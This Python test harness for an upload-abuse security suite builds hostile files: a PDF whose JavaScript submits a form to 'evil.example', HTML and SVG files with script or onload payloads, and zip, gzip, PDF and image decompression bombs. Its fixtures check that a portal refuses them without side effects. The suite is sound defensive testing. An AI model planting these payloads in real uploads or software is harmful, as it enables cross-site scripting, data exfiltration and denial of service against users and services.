"""The harness of the upload abuse suite (tests/security/test_upload_abuse.py, test_download_abuse.py): hostile
files, a world of two workspaces with an earlier upload on every route, requests, and snapshots of what changed.

Everything goes through ``build_api()`` with the CORS middleware Reflex adds (as the tests in tests/api/ do), driven
by ``httpx.ASGITransport``. The fixtures are imported by the test modules (``asgi``, ``world`` and the autouse
``fresh_upload_limiter`` and ``system_tmp``).
"""

from __future__ import annotations

import functools
import gzip
import hashlib
import io
import struct
import tempfile
import uuid
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
import sqlalchemy as sa
from PIL import Image
from sqlmodel import Session, select

from models import Contact, IntakeFile, SessionKind, Workspace
from portal_app import routes
from portal_app.api import build_api, uploads
from portal_app.services import document_requests, identity, intake, invoices, messages, sessions
from portal_app.services.lines import LineInput
from portal_app.services.sessions import COOKIE_NAME
from tests.aio import run_async
from tests.factories import make_tenant

ROOT = Path(__file__).resolve().parents[2]
OWN_ORIGIN = "http://localhost:3000"
BASE = "http://localhost:8000"
ROUTES = ("proof", "document", "attachment", "logo")
CONTACT_ROUTES = ("proof", "document", "attachment")

# -- the files ---------------------------------------------------------------------------------------------------

PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
PDF_JS = (
    b"%PDF-1.4\n"
    b"1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R/Names<</JavaScript 4 0 R>>>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    b"3 0 obj<</S/JavaScript/JS(app.alert\\('pwned'\\); this.submitForm\\('https://evil.example'\\))>>endobj\n"
    b"4 0 obj<</Names[(x) 3 0 R]>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'
)
SVG_ONLOAD = b'<!-- a logo -->\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>'
BOMB_RATIO_BYTES = 40 * 1024 * 1024  # what the zip bombs expand to


def _chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_header(width: int, height: int) -> bytes:
    """A PNG that claims ``width`` × ``height`` pixels in a few dozen bytes (a decompression bomb's header)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IEND", b"")


def jpeg_header(width: int, height: int) -> bytes:
    sof = b"\xff\xc0\x00\x0b\x08" + struct.pack(">HH", height, width) + b"\x01\x01\x11\x00"
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + sof + b"\xff\xd9"


def gif(width: int = 1, height: int = 1, *, frame: tuple[int, int] = (1, 1)) -> bytes:
    """A GIF with a ``width`` × ``height`` logical screen and one ``frame``-sized image."""
    return (
        b"GIF89a"
        + struct.pack("<HH", width, height)
        + b"\x80\x00\x00\x00\x00\x00\xff\xff\xff"
        + b"\x2c\x00\x00\x00\x00"
        + struct.pack("<HH", *frame)
        + b"\x00\x02\x02\x44\x01\x00\x3b"
    )


def webp_header(width: int, height: int) -> bytes:
    payload = b"VP8X" + struct.pack("<I", 10) + b"\x00" * 4
    payload += (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return b"RIFF" + struct.pack("<I", 4 + len(payload)) + b"WEBP" + payload


def real_png(size: tuple[int, int] = (200, 60), color: tuple[int, int, int] = (0, 90, 200)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, "PNG")
    return out.getvalue()


@functools.cache
def zip_bomb(inner: str = "bomb.bin") -> bytes:
    """A zip of a few tens of kilobytes that expands to 40 MB (a docx when ``inner`` is an Office part)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        if inner.startswith("word/"):
            zf.writestr("[Content_Types].xml", b"<Types/>")
        zf.writestr(inner, b"\x00" * BOMB_RATIO_BYTES)
    return buf.getvalue()


@functools.cache
def gzip_bomb() -> bytes:
    return gzip.compress(b"\x00" * BOMB_RATIO_BYTES, 9)


@functools.cache
def pdf_stream_bomb() -> bytes:
    """A valid-looking PDF whose only stream inflates to 40 MB: a PDF is stored as it is, never inflated."""
    packed = zlib.compress(b"\x00" * BOMB_RATIO_BYTES, 9)
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        + f"3 0 obj<</Length {len(packed)}/Filter/FlateDecode>>stream\n".encode()
        + packed
        + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


# -- the world: two workspaces, an earlier upload on every route -------------------------------------------------


@pytest.fixture(autouse=True)
def fresh_upload_limiter() -> Iterator[None]:
    uploads.upload_clients.clear()
    yield
    uploads.upload_clients.clear()


@pytest.fixture(autouse=True)
def system_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The system temp dir, made private to the test so that its listing before and after can be compared."""
    path = tmp_path / "system-tmp"
    path.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(path))
    monkeypatch.setenv("TMPDIR", str(path))
    return path


@pytest.fixture(scope="module")
def asgi() -> Any:
    with pytest.MonkeyPatch.context() as mp:
        mp.chdir(ROOT)
        mp.syspath_prepend(str(ROOT))
        from reflex.app import App

        api = build_api()
        App._add_cors(api)
        return api


@dataclass
class World:
    engine: sa.Engine
    storage: Path
    tmp: Path
    ws: int
    invoice: int
    items: list[int]
    thread: int
    free_message: int  # a contact message without a file yet
    tokens: dict[str, str]
    seeded: dict[str, int]  # route -> the intake id of the earlier upload on it
    seed_bytes: dict[int, bytes]
    logo_key: str
    other_account_file: int
    other_workspace_file: int


def _key() -> str:
    return uuid.uuid4().hex


@pytest.fixture()
def world(committed_engine: sa.Engine, storage_dir: Path, system_tmp: Path, asgi: Any) -> World:
    with Session(committed_engine, expire_on_commit=False) as s:
        a, b = make_tenant(s), make_tenant(s)
        lines = [LineInput("Consulting", quantity=2, unit_price_minor=50_000, tax_rate_bp=0)]
        inv = invoices.create_invoice(s, a.finance, a.account.id, lines=lines)
        invoices.issue_invoice(s, a.finance, inv.id)
        req = document_requests.create_document_request(
            s, a.team_lead, a.account.id, title="Onboarding", items=["W-9", "Insurance", "Bank letter"]
        )
        items = [i.id for i in document_requests.get_document_request_detail(s, a.team_lead, req.id).items]
        thread = messages.portal_start_thread(
            s, a.contact, subject="Q", body="See file", idempotency_key=_key()
        )
        first = messages.portal_get_thread_messages(s, a.contact, thread.id).items[0]
        second = messages.portal_post_message(
            s, a.contact, thread.id, body="And this", idempotency_key=_key()
        )
        # Files the attacker's session must not reach: another account's and another workspace's.
        theirs = document_requests.create_document_request(s, a.team_lead, a.other_account.id, title="T")
        other_account_file = intake.submit_document(
            s, a.other_contact, theirs.id, filename="theirs.pdf", data=PDF, idempotency_key=_key()
        ).id
        foreign = document_requests.create_document_request(s, b.team_lead, b.account.id, title="F")
        other_workspace_file = intake.submit_document(
            s, b.contact, foreign.id, filename="foreign.pdf", data=PDF, idempotency_key=_key()
        ).id

        def contact(actor: Any) -> str:
            issued = identity.start_contact_session(
                s, s.get(Contact, actor.contact_id), actor.account_id, via="test"
            )
            s.commit()
            return issued.token

        def staff(actor: Any) -> str:
            issued = sessions.create_session(
                s, kind=SessionKind.STAFF, user_id=actor.user_id, workspace_id=actor.workspace_id
            )
            s.commit()
            return issued.token

        tokens = {
            "contact": contact(a.contact),
            "billing": contact(a.billing_contact),
            "other_account": contact(a.other_contact),
            "other_workspace": contact(b.contact),
            "owner": staff(a.owner),
            "finance": staff(a.finance),
            "other_workspace_owner": staff(b.owner),
        }
    w = World(
        engine=committed_engine,
        storage=storage_dir,
        tmp=system_tmp,
        ws=a.ws.id,
        invoice=inv.id,
        items=items,
        thread=thread.id,
        free_message=second.id,
        tokens=tokens,
        seeded={},
        seed_bytes={},
        logo_key="",
        other_account_file=other_account_file,
        other_workspace_file=other_workspace_file,
    )
    # The earlier uploads, through the same routes: every attack must leave them as they are.
    seeds = {"proof": real_png(color=(1, 2, 3)), "document": PDF, "attachment": real_png(color=(4, 5, 6))}
    for route, data in seeds.items():
        resp = send(asgi, w, route, data, name=f"earlier {route}.bin", message_id=first.id)
        assert resp.status_code == 200, resp.text
        w.seeded[route] = resp.json()["id"]
        w.seed_bytes[resp.json()["id"]] = data
    assert send(asgi, w, "logo", real_png()).status_code == 200
    w.logo_key = logo_key(w)
    uploads.upload_clients.clear()
    return w


# -- requests ----------------------------------------------------------------------------------------------------


def route_url(w: World, route: str, *, message_id: int | None = None, item: int | None = None) -> str:
    if route == "proof":
        return routes.url_for(
            f"{routes.FILES_UPLOAD_PROOF}/{w.invoice}", amount="1000", paid_on="2026-01-05", reference="TR-1"
        )
    if route == "document":
        return f"{routes.FILES_UPLOAD_DOCUMENT}/{item or w.items[0]}"
    if route == "attachment":
        return routes.url_for(
            f"{routes.FILES_UPLOAD_ATTACHMENT}/{w.thread}", message_id=message_id or w.free_message
        )
    return routes.FILES_UPLOAD_LOGO


def upload_headers(w: World, route: str, name: str, token: str | None = None) -> dict[str, str]:
    who = token if token is not None else w.tokens["owner" if route == "logo" else "contact"]
    return {
        "x-portal-upload": "1",
        "x-file-name": quote(name),
        "x-idempotency-key": _key(),
        "origin": OWN_ORIGIN,
        "content-type": "application/octet-stream",
        "cookie": f"{COOKIE_NAME}={who}",
    }


def send(
    app: Any,
    w: World,
    route: str,
    body: Any,
    *,
    name: str = "file.pdf",
    message_id: int | None = None,
    item: int | None = None,
) -> httpx.Response:
    url = route_url(w, route, message_id=message_id, item=item)
    headers = upload_headers(w, route, name)

    async def go() -> httpx.Response:
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url=BASE) as client:
            return await client.post(url, content=body, headers=headers)

    return run_async(go())


def get(app: Any, path: str, token: str | None) -> httpx.Response:
    async def go() -> httpx.Response:
        cookies = {COOKIE_NAME: token} if token else {}
        async with httpx.AsyncClient(
            transport=httpx.ASGITransport(app=app), base_url=BASE, cookies=cookies
        ) as client:
            return await client.get(path)

    return run_async(go())


def download_path(intake_id: int, *, preview: bool = False) -> str:
    return f"{routes.FILES_INTAKE}/{intake_id}" + ("/preview" if preview else "")


# -- what changed ------------------------------------------------------------------------------------------------


def logo_key(w: World) -> str:
    with Session(w.engine) as s:
        ws = s.get(Workspace, w.ws)
        assert ws is not None
        return ws.logo_key


def listing(root: Path) -> dict[str, str]:
    return {
        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in root.rglob("*")
        if p.is_file()
    }


@dataclass(frozen=True)
class Snapshot:
    storage: dict[str, str]  # path under the private storage dir -> sha256 of its content
    system_tmp: dict[str, str]
    rows: dict[int, tuple[object, ...]]
    logo: str


def snapshot(w: World) -> Snapshot:
    with Session(w.engine) as s:
        rows = {
            r.id: (r.storage_key, r.size_bytes, r.sha256, r.status, r.original_name, r.sniffed_type)
            for r in s.exec(select(IntakeFile)).all()
            if r.id is not None
        }
    return Snapshot(listing(w.storage), listing(w.tmp), rows, logo_key(w))


def assert_earlier_uploads_untouched(app: Any, w: World) -> None:
    for route, intake_id in w.seeded.items():
        got = get(app, download_path(intake_id), w.tokens["finance"])
        assert got.status_code == 200 and got.content == w.seed_bytes[intake_id], route
    assert logo_key(w) == w.logo_key
    assert get(app, f"{routes.FILES_LOGO}/{w.logo_key}.png", None).status_code == 200


def assert_refused(
    app: Any, w: World, before: Snapshot, resp: httpx.Response, status: int, message: str
) -> None:
    assert resp.status_code == status, resp.text
    assert resp.json() == {"ok": False, "field": "file", "message": message}
    assert resp.headers["cache-control"] == "no-store"
    after = snapshot(w)
    assert after.storage == before.storage  # nothing stored, no temp file left in the storage dir
    assert after.system_tmp == before.system_tmp == {}
    assert after.rows == before.rows and after.logo == before.logo
    assert_earlier_uploads_untouched(app, w)


def assert_one_added(w: World, before: Snapshot) -> IntakeFile:
    after = snapshot(w)
    assert {k: v for k, v in after.storage.items() if k in before.storage} == before.storage
    assert len(after.storage) == len(before.storage) + 1
    assert after.system_tmp == {}
    assert {k: v for k, v in after.rows.items() if k in before.rows} == before.rows
    [new_id] = set(after.rows) - set(before.rows)
    with Session(w.engine) as s:
        row = s.get(IntakeFile, new_id)
        assert row is not None
        return row
